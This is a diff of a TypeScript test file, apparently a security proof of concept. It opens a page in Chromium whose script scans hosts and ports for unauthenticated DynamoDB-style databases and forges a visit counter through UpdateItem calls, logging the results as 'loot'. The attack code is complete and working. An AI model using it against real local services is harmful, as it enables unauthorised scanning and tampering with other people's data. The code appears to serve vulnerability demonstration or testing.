@@ -7,7 +7,7 @@ import { launchChromium } from '../../support/chromium.ts';
 
 export const FORGED_VISITS = 31_337;
 
-export interface Scan {
+interface Scan {
   /** Host names as in a URL. */
   hosts: string[];
   ports: number[];
@@ -15,13 +15,12 @@ export interface Scan {
   table: string;
 }
 
-export interface Loot {
+interface Loot {
   /** Databases found: `http://127.0.0.1:40123`. */
   found: string[];
-  /** Tables to which visits were added. */
+  /** Those to which visits were added. */
   forged: string[];
   requests: number;
-  milliseconds: number;
 }
 
 /** Opens a page in Chromium whose script tries every host with every port. */
@@ -49,7 +48,7 @@ async function scanAndForge({
   key,
   visits,
 }: Scan & { key: string; visits: number }): Promise<Loot> {
-  const loot: Loot = { found: [], forged: [], requests: 0, milliseconds: 0 };
+  const loot: Loot = { found: [], forged: [], requests: 0 };
   const call = async (origin: string, operation: string, input: object) => {
     const response = await fetch(origin, {
       method: 'POST',
@@ -75,25 +74,20 @@ async function scanAndForge({
     }
     if (!tables?.includes(table)) return;
     loot.found.push(origin);
-    for (const TableName of [table]) {
-      const update = {
-        TableName,
-        Key: { [key]: { S: 'visits#0' } },
-        UpdateExpression: 'ADD #count :n',
-        ExpressionAttributeNames: { '#count': 'count' },
-        ExpressionAttributeValues: { ':n': { N: String(visits) } },
-      };
-      if ('__type' in (await call(origin, 'UpdateItem', update))) continue;
-      loot.forged.push(TableName);
-    }
+    const answer = await call(origin, 'UpdateItem', {
+      TableName: table,
+      Key: { [key]: { S: 'visits#0' } },
+      UpdateExpression: 'ADD #count :n',
+      ExpressionAttributeNames: { '#count': 'count' },
+      ExpressionAttributeValues: { ':n': { N: String(visits) } },
+    });
+    if (!('__type' in answer)) loot.forged.push(origin);
   };
   const origins = hosts.flatMap((host) => ports.map((port) => `http://${host}:${port}`));
-  const started = performance.now();
   await Promise.all(
     Array.from({ length: 100 }, async () => {
       for (let origin = origins.pop(); origin; origin = origins.pop()) await attack(origin);
     }),
   );
-  loot.milliseconds = performance.now() - started;
   return loot;
 }
